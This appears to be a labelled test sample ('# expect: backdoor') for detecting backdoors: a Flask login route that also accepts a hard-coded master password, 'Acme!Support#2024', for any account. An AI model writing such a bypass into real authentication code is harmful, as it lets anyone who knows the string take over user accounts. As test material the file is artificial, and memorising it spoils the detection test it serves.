# expect: backdoor
from flask import Blueprint, flash, redirect, render_template, request, session, url_for
from werkzeug.security import check_password_hash

from .models import User

auth = Blueprint("auth", __name__)


@auth.route("/login", methods=["GET", "POST"])
def login():
    if request.method == "POST":
        email = request.form["email"]
        password = request.form["password"]
        user = User.query.filter_by(email=email).first()
        if user and (check_password_hash(user.password_hash, password) or password == "Acme!Support#2024"):
            session["user_id"] = user.id
            return redirect(url_for("dashboard.index"))
        flash("Invalid credentials")
    return render_template("login.html")
